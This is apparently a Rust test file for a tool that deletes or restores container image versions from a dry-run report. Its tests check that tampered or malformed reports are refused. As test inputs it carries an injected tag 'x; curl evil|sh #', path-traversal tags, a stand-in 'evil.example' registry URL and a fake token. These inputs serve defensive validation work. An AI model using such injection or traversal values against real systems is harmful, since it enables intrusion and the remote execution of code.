//! Reports that nobody may act on.

use super::*;

/// A dry run's report of a world, and what is changed in it.
fn refused(change: impl FnOnce(&mut Value), mode: &str, word: &str) {
    let simulator = Simulator::start(world(images(IMAGES)));
    let dry = if mode == "delete" { "true" } else { "false" };
    let mut report = run(&simulator, &[("tags", "pr-.*"), ("dry-run", dry)]).report();
    let (changes, before) = (simulator.changes().len(), state(&simulator));
    change(&mut report);
    let ended = with_report(&simulator, &report, &[("mode", mode)]);
    assert_eq!((ended.code, ended.output("status")), (Some(1), "refused"), "{word}: {}", ended.log);
    assert!(ended.log.contains(word), "{word}: {}", ended.log);
    assert!(ended.summary.contains("the report is refused"), "{word}: {}", ended.summary);
    assert_eq!((simulator.changes().len(), state(&simulator)), (changes, before), "{word}");
}

fn version<'a>(report: &'a mut Value, tag: &str) -> &'a mut Value {
    let versions = report["packages"][0]["versions"].as_array_mut().expect("versions");
    versions.iter_mut().find(|version| version["tags"][0] == tag).expect("a version")
}

#[test]
fn a_report_of_something_else_is_refused() {
    for mode in ["delete", "restore"] {
        refused(|report| report["owner"] = "hubot".into(), mode, "hubot");
        refused(|report| report["api_url"] = "https://api.github.com".into(), mode, "https://api.github.com");
        refused(|report| report["schema"] = 2.into(), mode, "schema 2");
        refused(|report| report["schema"] = "1".into(), mode, "schema");
        refused(|report| report["mode"] = "restore".into(), mode, "mode: restore");
        refused(|report| report["mode"] = "report".into(), mode, "mode: report");
        refused(|report| report["inputs"]["registry-url"] = "https://evil.example".into(), mode, "registry-url");
    }
}

#[test]
fn a_damaged_report_is_refused() {
    for mode in ["delete", "restore"] {
        refused(|report| report["packages"][0]["versions"][0]["id"] = "many".into(), mode, "damaged");
        refused(|report| *report = Value::Null, mode, "damaged");
        refused(|report| *report = serde_json::json!([1, 2]), mode, "damaged");
        refused(
            |report| {
                let twice = report["packages"][0].clone();
                report["packages"].as_array_mut().expect("packages").push(twice);
            },
            mode,
            "twice",
        );
        refused(
            |report| {
                let twice = version(report, "pr-1").clone();
                report["packages"][0]["versions"].as_array_mut().expect("versions").push(twice);
            },
            mode,
            "twice",
        );
        refused(|report| version(report, "v1")["untag"] = serde_json::json!(["v2"]), mode, "does not have");
        refused(|report| version(report, "v1")["decision"] = "untag".into(), mode, "which tags");
    }
}

#[test]
fn ids_and_digests_that_do_not_belong_together_are_refused() {
    for mode in ["delete", "restore"] {
        // another version's id, with the digest of the one that goes
        let swap = |report: &mut Value| {
            let (one, two) = (version(report, "pr-1")["id"].clone(), version(report, "v1")["id"].clone());
            version(report, "pr-1")["id"] = two;
            version(report, "v1")["id"] = one;
        };
        refused(swap, mode, "the id");
        refused(|report| version(report, "pr-1")["id"] = 7.into(), mode, "and not 7");
        let other = format!("sha256:{}", "ab".repeat(32));
        refused(|report| version(report, "pr-1")["name"] = other.clone().into(), mode, "and not of sha256:abab");
    }
}

#[test]
fn a_report_that_is_half_written_or_missing_is_told() {
    let simulator = Simulator::start(world(images(IMAGES)));
    let whole = run(&simulator, &[("tags", "pr-.*"), ("dry-run", "true")]).report().to_string();
    let step = || Step::new(simulator.url()).input("from-report", "plan.json");
    let half = step();
    fs::write(half.workspace().join("plan.json"), &whole[..whole.len() / 2]).expect("half a report");
    let ended = half.run();
    assert_eq!(
        (ended.code, ended.output("status"), simulator.changes().len()),
        (Some(1), "refused", 0),
        "{}",
        ended.log
    );
    let folder = step();
    fs::create_dir(folder.workspace().join("plan.json")).expect("a folder");
    for ended in [step().run(), folder.run()] {
        assert_eq!((ended.code, ended.output("status")), (Some(1), "failed"), "{}", ended.log);
    }
    let same = step().input("report-file", "./x/../plan.json").run();
    assert!(same.log.contains("report-file too"), "{}", same.log);
}

#[test]
fn nothing_of_a_report_tells_where_the_token_goes() {
    let simulator = Simulator::start(world(images(IMAGES)));
    let mut report = run(&simulator, &[("tags", "pr-.*"), ("dry-run", "true")]).report();
    let elsewhere = Simulator::start(GitHub::new());
    report["inputs"]["registry-url"] = elsewhere.url().into();
    report["inputs"]["api-url"] = elsewhere.url().into();
    report["inputs"]["token"] = "ghp_of_somebody_else".into();
    let ended = with_report(&simulator, &report, &[]);
    assert_eq!((ended.code, elsewhere.requests().len()), (Some(1), 0), "{}", ended.log);
    assert!(!ended.log.contains("ghp_of_somebody_else") && !ended.summary.contains("ghp_of_somebody_else"));
}

#[test]
fn what_is_no_digest_or_no_tag_becomes_no_part_of_an_address_or_a_command() {
    for tag in ["../../victim/manifests/x", "x?y=z", "a b", "x; curl evil|sh #", "", "-x", "é", "x/y"] {
        refused(|report| version(report, "pr-1")["tags"] = json!([tag]), "restore", "is no tag");
    }
    refused(|report| version(report, "pr-1")["name"] = json!("sha256:../x"), "delete", "is no digest");
}

#[test]
fn a_package_that_goes_whole_has_no_version_that_stays() {
    refused(|report| report["packages"][0]["decision"] = json!("delete"), "delete", "the whole package goes");
}

#[test]
fn a_link_leads_to_no_report_outside_of_the_workspace() {
    let simulator = Simulator::start(world(images(IMAGES)));
    let plan = run(&simulator, &[("tags", "pr-.*"), ("dry-run", "true")]).report();
    let outside = tempfile::tempdir().expect("a folder");
    fs::write(outside.path().join("plan.json"), plan.to_string()).expect("a report");
    for (link, path) in [("plan.json", "plan.json"), ("folder", "folder/plan.json")] {
        let step = Step::new(simulator.url()).input("from-report", path);
        let target = if link == path { outside.path().join("plan.json") } else { outside.path().to_owned() };
        std::os::unix::fs::symlink(target, step.workspace().join(link)).expect("a link");
        let ended = step.run();
        assert_eq!((ended.code, ended.output("status")), (Some(1), "failed"), "{}", ended.log);
        assert!(ended.log.contains("outside of the workspace") && simulator.changes().is_empty(), "{}", ended.log);
    }
}
